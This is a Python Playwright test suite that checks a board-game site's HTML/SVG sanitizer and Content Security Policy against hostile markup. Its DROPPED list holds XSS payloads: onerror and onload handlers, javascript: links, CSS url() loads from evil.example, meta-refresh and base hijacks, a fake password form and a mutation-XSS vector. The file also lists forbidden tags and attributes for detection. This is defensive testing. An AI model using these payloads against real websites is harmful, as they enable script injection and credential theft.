"""Hostile markup reaches no page: neither out of an owner's corrections nor out of a forged message."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, Request, expect

from cosmodrome.core.agenda import legal, pending
from cosmodrome.core.choices import NONE
from cosmodrome.core.corrections import MOST_BYTES
from cosmodrome.core.game import Game
from cosmodrome.games import GAMES, find
from cosmodrome.rulebook import book
from cosmodrome.web.addresses import address
from tests.browser.anybody import Anybody
from tests.browser.conftest import Accounts, Server
from tests.browser.player import Player
from tests.contract.test_laws import label
from tests.contract.test_markup import CORRECTED, positions
from tests.hostile import HOSTILE, attack, fields

pytestmark = pytest.mark.browser
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.violatedDirective} ${e.sample}`));
window.alert = window.confirm = window.prompt = (words) => violations.push(`dialog ${words}`);
"""
FORBIDDEN = "script, style, meta, link, base, iframe, object, embed, form, foreignObject, image, img, animate, set"
FOUND = f"""() => {{
  const inside = [...document.querySelectorAll("#picture, #panels")];
  const nodes = inside.flatMap((place) => [...place.querySelectorAll("*")]);
  const bad = inside.flatMap((place) => [...place.querySelectorAll("{FORBIDDEN}")]);
  const names = nodes.flatMap((node) => [...node.attributes]).filter(({{name, value}}) =>
    /^on|^style$|^src|xlink/.test(name) || (name === "href" && !value.startsWith("#")) || /url\\((?!#)/.test(value)
      && !/^(data-|aria-)/.test(name));
  return [...bad.map((node) => node.outerHTML), ...names.map(({{name, value}}) => `${{name}}=${{value}}`)];
}}"""


class Guarded:
    """A visitor whose every request, navigation and violation of the policy is written down."""

    def __init__(self, player: Player, url: str) -> None:
        self.player, self.page, self.url = player, player.page, url
        self.foreign: list[str] = []
        self.page.add_init_script(WATCH)
        self.page.on("request", self._asked)
        self.page.on("dialog", lambda dialog: self.foreign.append(f"dialog {dialog.message}"))

    def _asked(self, request: Request) -> None:
        if not request.url.startswith((self.url, self.url.replace("http", "ws"), "data:")):
            self.foreign.append(request.url)

    def calm(self) -> None:
        assert self.foreign == []
        assert self.page.evaluate("violations") == []
        assert self.page.evaluate(FOUND) == []


def visit(people: Accounts, server: Server, **how: bool) -> Guarded:
    return Guarded(people.come(server.url, **how), server.url)


def open_table(page: Page, game: str, corrections: str = "") -> str:
    page.goto(f"/new?game={game}")
    page.locator("[name=data]").evaluate("(field, text) => { field.value = text; }", corrections)
    page.get_by_role("button", name="Open the table").click()
    page.wait_for_selector("#main[data-n]", state="attached")
    return page.url


# -- the real attack -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("game", CORRECTED, ids=label)
def test_a_table_with_hostile_corrections_is_a_table_like_any_other(
    swift: Server, people: Accounts, game: Game
) -> None:
    owner, visitor = visit(people, swift), visit(people, swift, phone=True)
    for text in (HOSTILE[0], HOSTILE[2]):
        url = open_table(owner.page, game.name, attack(game, text, most=MOST_BYTES))
        visitor.page.goto(url)
        visitor.player.arrive()
        anybody = Anybody(owner.player)
        for _ in range(4):
            anybody.act()
        shown = owner.player.n
        while visitor.player.n < shown and not owner.player.over:
            anybody.act()  # what the owner passed in silence is shown to others when the window has closed
        visitor.player.saw(shown)
        for guest in (owner, visitor):
            guest.calm()
            assert guest.page.url.startswith(url)
            assert guest.page.locator("#picture [data-piece]").count() > 5
        visitor.page.goto(f"{url}/replay")
        expect(visitor.page.locator("#ask")).not_to_have_text("Loading …")
        visitor.calm()


# -- every page under the policy ------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/", "/new?game=encounter", "/learn/kaboom", "/account", "/fair", "/tables/none"])
def test_no_page_breaks_the_policy(server: Server, people: Accounts, path: str) -> None:
    ann = visit(people, server)
    ann.page.goto(path)
    ann.calm()
    ann.player.errors = [error for error in ann.player.errors if "404" not in error]


@pytest.mark.parametrize("name", GAMES)
def test_no_table_replay_or_lesson_breaks_the_policy(swift: Server, people: Accounts, name: str) -> None:
    ann = visit(people, swift)
    url = open_table(ann.page, name)
    anybody = Anybody(ann.player)
    for _ in range(6):
        anybody.act()
    rule = next(iter(book(find(name)).paragraphs))
    run = f"async (rule) => (await import('{address('common/rules.js')}')).openRule(main.dataset.game, rule)"
    ann.page.evaluate(run, rule)
    expect(ann.page.locator("#rule-text h2")).to_be_visible()
    ann.calm()
    ann.page.goto(f"{url}/replay")
    expect(ann.page.locator("#ask")).not_to_have_text("Loading …")
    ann.calm()
    if find(name).lesson:
        ann.page.goto(f"/learn/{name}/lesson")
        ann.page.wait_for_selector("#main[data-n]", state="attached")
        ann.calm()


def test_no_result_breaks_the_policy(swift: Server, people: Accounts) -> None:
    ann = visit(people, swift)
    ann.player.new_table({0: "me", 1: "bot"}, "short")
    ann.player.play_on()
    expect(ann.page.locator("#result table")).to_be_visible()
    ann.calm()


# -- the sanitizer itself -------------------------------------------------------------------------------------

DROPPED = [
    "<g><script>violations.push(1)</script></g>",
    "<g onload='violations.push(1)' onclick='violations.push(1)'><rect width='9' height='9'/></g>",
    "<image href='//evil.example/x' onerror='violations.push(1)'/>",
    "</svg><img src=x onerror='violations.push(1)'>",
    "<foreignObject><iframe src='//evil.example'></iframe></foreignObject>",
    "<title><img src=x onerror='violations.push(1)'></title>",
    "<title><style>*{background:url(//evil.example/x)}</style></title>",
    "<a href='javascript:violations.push(1)'><text>x</text></a>",
    "<a xlink:href='javascript:violations.push(1)' href='//evil.example'><text>x</text></a>",
    "<use href='//evil.example/x.svg#y'/><use xlink:href='data:image/svg+xml,x#y'/>",
    "<rect fill='url(//evil.example/x)' stroke='u\\72l(//evil.example/x)' style='fill:url(//evil.example/x)'/>",
    "<g><animate attributeName='href' to='javascript:violations.push(1)'/><set attributeName='onclick'/></g>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<base href='//evil.example'><link rel='stylesheet' href='//evil.example/x.css'>",
    "<form action='//evil.example'><input name='password'><button>Go</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=violations.push(1)&gt;'>",
    "<g id='log'><text>x</text></g>",
]


@pytest.fixture
def table(server: Server, people: Accounts) -> Iterator[Guarded]:
    """At the end nothing has run; that a handler or a style was refused already while it was parsed is no fault."""
    ann = visit(people, server)
    open_table(ann.page, "colors")
    yield ann
    ann.page.evaluate("violations = violations.filter((one) => !/^(script|style)-src-attr/.test(one))")
    ann.player.errors = [error for error in ann.player.errors if "Content Security Policy" not in error]
    ann.calm()


@pytest.mark.parametrize("markup", DROPPED)
def test_a_hostile_message_leaves_nothing_behind(table: Guarded, markup: str) -> None:
    """As if the server itself had been taken over: through the socket's own door into the board and the panels."""
    run = """async ([markup, at]) => {
      const {Live} = await import(at + 'table/live.js');
      const seen = [];
      const {Picture} = await import(at + 'board/picture.js');
      const {showPanels} = await import(at + 'board/panels.js');
      const live = new Live(() => '', {state: () => {}, update: (news) => {
        const picture = new Picture(document.getElementById('picture'), document.getElementById('panels'));
        picture.scene(news.size, news.defs, news.set, news.order);
        showPanels(document.getElementById('panels'), news.panels, true);
      }});
      live.receive({type: 'scene', size: [90, 90], defs: markup, set: {p: markup}, order: ['p'], panels: {w: markup}});
      await new Promise((done) => setTimeout(done, 50));
      return document.querySelectorAll('#log').length;
    }"""
    assert table.page.evaluate(run, [markup, address("")]) == 1
    assert table.page.locator("#picture [data-piece=p]").count() == 1


def test_a_string_becomes_markup_nowhere_else(table: Guarded) -> None:
    run = """() => {
      const ways = [
        () => { document.createElement('div').innerHTML = '<b>x</b>'; },
        () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); },
        () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        () => document.createRange().createContextualFragment('<b>x</b>'),
        () => trustedTypes.createPolicy('cosmodrome', {createHTML: (text) => text}),
        () => trustedTypes.createPolicy('other', {createHTML: (text) => text}),
      ];
      return ways.map((way) => { try { way(); return 'done'; } catch (error) { return error.name; } });
    }"""
    assert table.page.evaluate(run) == ["TypeError"] * 6
    table.page.evaluate("violations.length = 0")
    table.player.errors.clear()


def drawn(game: Game) -> dict[str, Any]:
    """Every different piece, panel and set of defs of a random game."""
    assert game.board
    svg, html = {""}, {""}
    options = game.Options(seats=game.seats[-1])
    for state in positions(game, options, 30):
        for seat in (None, *pending(state)[:1]):
            for tall in (False, True):
                choices = NONE if seat is None else legal(state, seat)
                drawing = game.board(game.view(state, seat), choices, game.data(""), tall)
                svg |= {drawing.defs, *drawing.pieces.values()}
                html |= set(drawing.panels.values())
    return {"svg": sorted(svg), "html": sorted(html)}


@pytest.mark.parametrize("name", GAMES)
def test_what_games_draw_goes_through_unchanged(server: Server, people: Accounts, name: str) -> None:
    """Beside a page without a policy, on which the same markup is parsed as it is."""
    ann = people.come(server.url)
    made = json.dumps(drawn(find(name)))
    ann.page.goto("/account")
    ours = ann.page.evaluate(
        """async ([made, at]) => {
          const {svgNodes, htmlNodes} = await import(at + 'board/sanitize.js');
          const text = (nodes) => nodes.map((node) => node.outerHTML ?? node.data).join('');
          return [JSON.parse(made).svg.map((one) => text([...svgNodes(one).childNodes])),
                  JSON.parse(made).html.map((one) => text([...htmlNodes(one).childNodes]))];
        }""",
        [made, address("")],
    )
    ann.page.goto("about:blank")
    plain = ann.page.evaluate(
        """(made) => {
          const parsed = (space, tag) => (one) => {
            const place = document.createElementNS(space, tag);
            place.innerHTML = one;
            return place.innerHTML;
          };
          return [JSON.parse(made).svg.map(parsed('http://www.w3.org/2000/svg', 'svg')),
                  JSON.parse(made).html.map(parsed('http://www.w3.org/1999/xhtml', 'div'))];
        }""",
        made,
    )
    assert ours == plain


def test_every_game_has_something_to_correct() -> None:
    assert {game.name for game in CORRECTED} == set(GAMES)
    assert all(list(fields(game)) for game in CORRECTED)
